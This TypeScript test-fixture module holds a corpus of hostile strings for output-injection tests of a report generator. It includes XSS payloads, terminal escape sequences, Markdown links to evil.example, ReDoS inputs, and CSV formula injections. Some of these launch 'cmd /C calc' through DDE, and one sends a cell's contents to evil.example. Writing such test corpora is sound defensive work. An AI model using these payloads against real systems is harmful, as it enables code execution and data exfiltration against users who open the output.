/**
 * THE hostile string corpus (issue 14, output injection): every string an attacker can write into
 * a resource name, a script, an app setting, an image config or an Activity Log field, that could
 * do something in a report if a format treated it as markup or code. One module, used by every
 * output-injection test (test/hardening/output-injection.test.ts) and the parser properties.
 *
 * `window.__xss` is what an injected script would set; none of these strings is a real secret.
 */

const ESC = "\u001b";

export interface HostileString {
  /** What the string tries to do (used in test names and as a marker). */
  readonly name: string;
  readonly value: string;
}

/** Escape sequences and control characters for terminals. */
const TERMINAL: HostileString[] = [
  { name: "ansi-colour", value: `${ESC}[31mRED${ESC}[0m` },
  { name: "ansi-clear-screen", value: `${ESC}[2J${ESC}[H` },
  { name: "csi-8bit", value: "\u009b31mC1-CSI" },
  { name: "osc-title", value: `${ESC}]0;pwned-title\u0007` },
  { name: "osc8-hyperlink", value: `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\` },
  { name: "c0-controls", value: "a\u0000b\u0007c\u0008d\u000be\u000cf\u007fg" },
  { name: "c1-controls", value: "h\u0085i\u0090j\u009dk\u009cl" },
  { name: "bidi-override", value: "invoice\u202Egpj.exe\u202C \u2066rtl\u2069 \u200Bzw" },
  { name: "crlf-newlines", value: "line1\r\nline2\rline3\u2028line4" },
  { name: "nul", value: "before\u0000after" },
  { name: "invalid-surrogates", value: "lone-high\ud800 lone-low\udc00 pair\ud83d\ude00" },
];

/** HTML and script injection. */
const HTML: HostileString[] = [
  { name: "script-tag", value: "<script>window.__xss=1</script>" },
  { name: "close-script", value: "</script><script>window.__xss=2</script>" },
  { name: "img-onerror", value: `"><img src=x onerror="window.__xss=3">` },
  { name: "svg-onload", value: "<svg onload=window.__xss=4>" },
  { name: "attr-break", value: `' onmouseover='window.__xss=5' x='` },
  { name: "html-comment", value: "<!-- --><style>*{display:none}</style>" },
];

/** Markdown: links, images, mentions, references, raw HTML, table breaks. */
const MARKDOWN: HostileString[] = [
  { name: "md-link", value: "[click me](https://evil.example/a)" },
  { name: "md-image", value: "![x](https://evil.example/pixel.png)" },
  { name: "md-mention", value: "@octocat @org/team please approve" },
  { name: "md-issue-ref", value: "fixes #1 and GH-2" },
  { name: "md-autolink", value: "www.evil.example https://evil.example/b <https://evil.example/c>" },
  { name: "md-html", value: "<details open><summary>x</summary><b>bold</b></details>" },
  { name: "md-table-break", value: "| col | col |\n|---|---|\n# heading\n```\nfence" },
  { name: "md-ref-link", value: "[x][1]\n\n[1]: https://evil.example/d" },
];

/** Spreadsheet formulas (CSV opened in a spreadsheet). */
const FORMULA: HostileString[] = [
  { name: "csv-hyperlink", value: `=HYPERLINK("https://evil.example/?d="&A1,"click")` },
  { name: "csv-dde", value: "+cmd|' /C calc'!A0" },
  { name: "csv-minus", value: "-2+3+cmd|' /C calc'!A0" },
  { name: "csv-at", value: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { name: "csv-tab", value: "\t=1+1" },
  { name: "csv-cr", value: "\r=1+1" },
  { name: "csv-quote-comma", value: `a","b",=1+1,"` },
];

/** Regex bait: input that makes a backtracking pattern take exponential time. */
const REDOS: HostileString[] = [
  { name: "redos-a", value: `${"a".repeat(50_000)}!` },
  { name: "redos-spaces", value: `x${" ".repeat(50_000)}x` },
  { name: "redos-nested", value: `${"(".repeat(5_000)}${"a=".repeat(5_000)}` },
];

export const HOSTILE: readonly HostileString[] = [...TERMINAL, ...HTML, ...MARKDOWN, ...FORMULA, ...REDOS];

/** One string holding every short hostile string (for places that take one value). */
export const HOSTILE_ALL = HOSTILE.filter((h) => !h.name.startsWith("redos"))
  .map((h) => h.value)
  .join(" ");

/**
 * Strings usable as an Azure resource name segment: no "/" (it would move the id's segments),
 * still hostile. Resource names are where output code most often trusts data (ids, links).
 */
export const HOSTILE_NAMES: readonly string[] = [
  `vm<img src=x onerror=window.__xss=9>${ESC}[31m`,
  '=HYPERLINK("x")[click](javascript:alert(1))@octocat',
  "+cmd|' -C calc'!A0\u202Eexe.\u0000",
];

/** A huge string: 10 MiB (no report cell may carry it whole). */
export function hugeString(size = 10 * 1024 * 1024): string {
  return `HUGE-START<script>window.__xss=10</script>${"A".repeat(size)}HUGE-END`;
}

/** Every raw control character a terminal would act on (C0 but TAB/LF, DEL, C1), and bidi overrides. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
export const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;
